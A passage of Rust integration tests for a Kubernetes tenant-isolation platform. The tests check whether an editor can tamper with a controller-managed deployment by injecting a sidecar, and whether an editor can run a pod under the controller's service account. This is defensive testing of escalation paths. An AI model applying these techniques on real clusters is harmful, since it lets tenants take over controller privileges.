        let api = crate::support::api_of(member.client.clone(), DEPLOYMENT, &target);
        let found = prison.platform.labelled(DEPLOYMENT, crate::support::AGENT_LABEL, &target).await?;
        let name = found[0]["metadata"]["name"].as_str().unwrap_or_default();
        api.delete(name, &kube::api::DeleteParams::default()).await.expect("an editor may");
        let back = || async {
            let found = prison.platform.space.get(DEPLOYMENT.0, DEPLOYMENT.1, &target, name).await?;
            Ok(found.filter(|found| found["metadata"]["deletionTimestamp"].is_null()))
        };
        prison.platform.space.wait("the controller", 5, back).await?;
        let spec = prison.platform.space.get(DEPLOYMENT.0, DEPLOYMENT.1, &target, name).await?.unwrap_or_default();
        let mut containers = spec["spec"]["template"]["spec"]["containers"].clone();
        let sidecar = json!({"name": "out", "image": "sluicegate.test/probe:v1"});
        containers.as_array_mut().expect("containers").push(sidecar);
        let patch = json!({"spec": {"template": {"spec": {"containers": containers}}}});
        edit_as(member.client.clone(), DEPLOYMENT, &target, name, patch).await.expect("an editor may");
        let mended = || async {
            let found = prison.platform.space.get(DEPLOYMENT.0, DEPLOYMENT.1, &target, name).await?.unwrap_or_default();
            let containers = found["spec"]["template"]["spec"]["containers"].as_array().map(Vec::len);
            Ok((containers == Some(1)).then_some(()))
        };
        prison.platform.space.wait("the controller without the container", 5, mended).await
    });
}

#[test]
fn only_the_guard_stops_a_member_from_running_pods_as_a_controller_beside_the_workloads() {
    attempt("out-pod", "Namespace", async |prison| {
        prison.settle().await?;
        let target = prison.team.target();
        let found = prison.platform.labelled(("v1", "ServiceAccount"), crate::support::AGENT_LABEL, &target).await?;
        let names: Vec<&str> = found.iter().filter_map(|one| one["metadata"]["name"].as_str()).collect();
        let account = names.iter().find(|name| name.contains("kustomize")).expect("the controller's account");
        let member = prison.member("edit").await?;
        let pod = json!({
            "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "out", "namespace": target},
            "spec": {"serviceAccountName": account, "terminationGracePeriodSeconds": 0, "containers": [{"name": "out", "image": "sluicegate.test/probe:v1", "imagePullPolicy": "IfNotPresent"}]},
        });
        // The controller's rights end at the namespace too: what is gained is the controller's place, not a way out.
        create_as(&member.client, pod).await?;
        prison.platform.space.condition(("v1", "Pod", &target, "out"), "Ready", "True", SOON).await?;
        seconds(1).await;
        prison.platform.space.delete("v1", "Pod", &target, "out").await
    });
}
